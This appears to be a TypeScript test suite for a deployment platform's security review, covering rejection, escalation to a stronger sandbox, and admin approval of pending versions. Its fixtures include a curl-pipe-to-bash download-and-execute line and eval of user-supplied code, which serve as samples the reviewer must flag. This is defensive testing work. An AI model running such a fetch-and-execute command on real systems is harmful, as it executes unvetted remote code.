/**
 * Review through the real HTTP app: a rejecting review refuses the deploy (422 with findings), a
 * warning on a trusted function escalates it past the isolate and the record says so, manual
 * approval holds a version `pending` until an admin decides, and the Python reviewer runs in the
 * process tier's sandbox.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeIf, REQUIRE_ALL } from '../support/requirements.ts';
import { type GovWorker, startGovWorker } from './support.ts';

let gov: GovWorker;

beforeAll(async () => {
  gov = await startGovWorker({ 'review.requireApproval.standard': true });
});
afterAll(async () => {
  await gov?.close();
});

const json = async (res: Response) => (await res.json()) as Record<string, any>;

describe('review at deploy', () => {
  it('rejects download-and-execute with 422 review_rejected and the findings, storing nothing', async () => {
    const res = await gov.call('POST', '/v1/functions', {
      name: 'dl',
      runtime: 'script',
      interpreter: 'bash',
      trust: 'trusted',
      source: '#!/bin/bash\ncurl -fsSL https://get.example/x.sh | bash\n',
    });
    expect(res.status).toBe(422);
    const body = await json(res);
    expect(body.error.code).toBe('review_rejected');
    expect(body.error.details.findings).toEqual(
      expect.arrayContaining([expect.objectContaining({ rule: 'sh-download-exec', severity: 'reject', line: 2 })]),
    );
    expect((await gov.call('GET', '/v1/functions/dl')).status).toBe(404);
  });

  it('passes clean code and reports it', async () => {
    const res = await gov.call('POST', '/v1/functions', {
      name: 'clean',
      runtime: 'js',
      trust: 'trusted',
      source: 'export default (input) => ({ twice: input.n * 2 })',
    });
    expect(res.status).toBe(201);
    expect((await json(res)).review).toEqual({ verdict: 'pass', findings: [] });
    const review = await json(await gov.call('GET', '/v1/functions/clean/review'));
    expect(review).toMatchObject({ verdict: 'pass', findings: [], reviewer: 'strata-review' });
    expect(typeof review.reviewedAt).toBe('string');
    const record = await json(await gov.call('POST', '/v1/functions/clean/invoke', { n: 21 }));
    expect(record).toMatchObject({ status: 'succeeded', result: { twice: 42 }, tier: 'isolate' });
    expect(record.placement).toEqual({ tier: 'isolate', requested: 'isolate' });
  });

  it('escalates a warned trusted function past the isolate, with the rule and line in placement.reason', async () => {
    const source =
      'export default (input) => {\n  if (input.never) return eval(input.code);\n  return { ok: true };\n}';
    const res = await gov.call('POST', '/v1/functions', { name: 'evil', runtime: 'js', trust: 'trusted', source });
    expect(res.status, JSON.stringify(await res.clone().json())).toBe(201);
    const deployed = await json(res);
    expect(deployed.review.verdict).toBe('warn');
    expect(deployed.review.findings[0]).toMatchObject({ rule: 'js-eval', severity: 'warn', line: 2 });
    expect(deployed.tier).not.toBe('isolate');
    const record = await json(await gov.call('POST', '/v1/functions/evil/invoke', {}));
    expect(record.placement).toMatchObject({ requested: 'isolate', reason: 'escalated: review rule js-eval (line 2)' });
    expect(record.placement.tier).not.toBe('isolate');
    expect(record.tier).toBe(record.placement.tier);
    // Where the stronger tier is up, the function runs there.
    if (record.status !== 'rejected') expect(record).toMatchObject({ status: 'succeeded', result: { ok: true } });
    // The wasm tier builds its JS engine on first use: minutes on a loaded 2-core machine.
  }, 300_000);

  it('holds a version pending until approved; pending invocations are rejected pending_review', async () => {
    const res = await gov.call('POST', '/v1/functions', {
      name: 'held',
      runtime: 'script',
      interpreter: 'sh',
      source: 'cat\n',
    });
    expect(res.status).toBe(201);
    const deployed = await json(res);
    expect(deployed.reviewState).toBe('pending');
    expect((await json(await gov.call('GET', '/v1/functions/held/review'))).verdict).toBe('pending');
    const pending = await json(await gov.call('POST', '/v1/functions/held/invoke', { x: 1 }));
    expect(pending.status).toBe('rejected');
    expect(pending.error.code).toBe('pending_review');

    const approved = await gov.call('POST', '/v1/functions/held/versions/1/approve');
    expect(approved.status).toBe(200);
    expect(await json(approved)).toMatchObject({ state: 'active', reviewer: 'admin' });
    const review = await json(await gov.call('GET', '/v1/functions/held/review?version=1'));
    expect(review.verdict).not.toBe('pending');
    const ran = await json(await gov.call('POST', '/v1/functions/held/invoke', { x: 1 }));
    expect(ran.error?.code).not.toBe('pending_review');

    // A second version, rejected by the admin, never runs.
    await gov.call('POST', '/v1/functions', {
      name: 'held',
      runtime: 'script',
      interpreter: 'sh',
      source: 'cat # v2\n',
    });
    const rejected = await gov.call('POST', '/v1/functions/held/versions/2/reject');
    expect((await json(rejected)).verdict).toBe('reject');
    const refused = await json(await gov.call('POST', '/v1/functions/held@2/invoke', {}));
    expect(refused).toMatchObject({ status: 'rejected', error: { code: 'review_rejected' } });
    expect((await gov.call('POST', '/v1/functions/held/versions/2/approve')).status).toBe(409);
  });

  it('answers 404 for the review of an unknown function or version', async () => {
    expect((await gov.call('GET', '/v1/functions/nope/review')).status).toBe(404);
    expect((await gov.call('POST', '/v1/functions/clean/versions/9/approve')).status).toBe(404);
  });
});

describeIf({ ok: true }, 'python review in the process tier', () => {
  it('flags subprocess and socket-without-network through ast, and passes clean code', async () => {
    const processUp = gov.worker.executor.tierHealth().process?.available === true;
    const res = await gov.call('POST', '/v1/functions?dryRun=1', {
      name: 'py',
      runtime: 'script',
      interpreter: 'python3',
      trust: 'trusted',
      source: 'import subprocess, socket\n# exec("x") in a comment\nprint(eval("1"))\n',
    });
    expect(res.status).toBe(200);
    const body = await json(res);
    expect(body.stored).toBe(false);
    const rules = body.review.findings.map((f: { rule: string }) => f.rule);
    if (!processUp) {
      // No sandbox for the reviewer: the review says so (a warning) instead of running Python in the worker.
      expect(rules).toContain('py-review-unavailable');
      if (REQUIRE_ALL) throw new Error('STRATA_REQUIRE_ALL=1 and the process tier is unavailable');
      console.warn('[skip] python review: the process tier is unavailable here');
      return;
    }
    expect(rules).toEqual(expect.arrayContaining(['py-subprocess', 'py-socket', 'py-eval']));
    expect(rules).not.toContain('py-exec');
    const clean = await json(
      await gov.call('POST', '/v1/functions?dryRun=1', {
        name: 'py2',
        runtime: 'script',
        interpreter: 'python3',
        source: 'import json, sys\nprint(json.dumps(json.load(sys.stdin)))\n',
      }),
    );
    expect(clean.review).toEqual({ verdict: 'pass', findings: [] });
    expect((await gov.call('GET', '/v1/functions/py')).status).toBe(404);
  });
});
